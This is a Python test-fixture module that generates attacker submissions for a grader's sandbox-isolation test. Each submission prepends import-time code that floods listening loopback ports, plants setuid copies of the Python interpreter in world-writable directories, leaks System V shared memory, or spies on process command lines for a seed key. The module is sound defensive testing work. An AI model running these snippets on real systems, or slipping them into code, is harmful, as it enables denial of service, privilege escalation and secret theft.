"""Hostile students of assignment 1 that attack *other* sandboxes (issue 15), for
``tests/test_grade_isolation.py``.

Each is the solution (so it scores full itself when the attack is harmless) plus a snippet run
when ``collectives.py`` is imported; the snippets use ``subprocess`` (allowed in a1) to run shell
or Python code, so the intake check has nothing to refuse:

* ``net_snoop``: for ~20 s, reads ``/proc/net/tcp`` and ``tcp6`` for loopback ports in LISTEN
  and writes garbage into each (the other slot's torch TCPStore, md.launch's sockets);
* ``setuid_plant``: copies the Python interpreter into ``/run/lock`` and every world-writable
  directory it finds, sets its setuid bit and writes a marker file beside it;
* ``sysv_shm``: creates ~512 MiB of System V shared memory segments (``shmget``/``shmat``
  through ctypes, in a ``python3 -c`` child), touches and detaches them, never removes them;
* ``cmdline_spy``: reads every ``/proc/*/cmdline`` and prints the ones that mention
  ``seed-key`` to stderr.

``write(OUT)`` writes them (and ``alice``, the solution) as folders ``OUT/<name>/collectives.py``.
"""

from __future__ import annotations

from pathlib import Path

from .make import FILE, SOLUTION, prepend

MARKER = "minidist-isolation-attack"  # in every file the attackers plant

NET_SNOOP = '''
import subprocess as _sp, sys as _sys
_sp.Popen([_sys.executable, "-c", """
import socket, time
end = time.time() + 20
while time.time() < end:
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            local, state = row.split()[1], row.split()[3]
            if state != "0A":  # LISTEN
                continue
            port = int(local.rsplit(":", 1)[1], 16)
            host = "::1" if table.endswith("6") else "127.0.0.1"
            try:
                with socket.create_connection((host, port), timeout=0.2) as s:
                    s.sendall(b"\\\\xff" * 4096)
            except OSError:
                pass
    time.sleep(0.05)
"""], start_new_session=True)
'''

SETUID_PLANT = f'''
import subprocess as _sp, sys as _sys
_sp.run(["/bin/sh", "-c", r"""
for d in /run/lock /var/lock /dev/mqueue /run/* /var/* /* ; do
  if [ -d "$d" ] && [ -w "$d" ]; then
    cp "$PY" "$d/.{MARKER}-py" 2>/dev/null && chmod u+s "$d/.{MARKER}-py" 2>/dev/null
    echo planted > "$d/.{MARKER}" 2>/dev/null
  fi
done
true
"""], env={{"PY": _sys.executable}}, timeout=30)
'''

SYSV_SHM = '''
import subprocess as _sp, sys as _sys
_sp.run([_sys.executable, "-c", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(8):
    ident = libc.shmget(0, 64 << 20, 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT
    if ident < 0:
        break
    address = libc.shmat(ident, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        continue
    ctypes.memset(address, 1, 64 << 20)
    libc.shmdt(ctypes.c_void_p(address))
"""], timeout=60)
'''

CMDLINE_SPY = """
import glob as _glob, sys as _sys
for _path in _glob.glob("/proc/[0-9]*/cmdline"):
    try:
        _text = open(_path, "rb").read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if "seed-key" in _text:
        print("spied:", _text, file=_sys.stderr)
"""

ATTACKERS = {
    "net_snoop": NET_SNOOP,
    "setuid_plant": SETUID_PLANT,
    "sysv_shm": SYSV_SHM,
    "cmdline_spy": CMDLINE_SPY,
}


def write(out: Path) -> list[str]:
    """``alice`` and the attackers as submission folders in ``out``; their names."""
    solution = SOLUTION.read_text()
    sources = {"alice": solution, **{name: prepend(solution, code) for name, code in ATTACKERS.items()}}
    for name, source in sources.items():
        (out / name).mkdir(parents=True, exist_ok=True)
        (out / name / FILE).write_text(source)
    return list(sources)
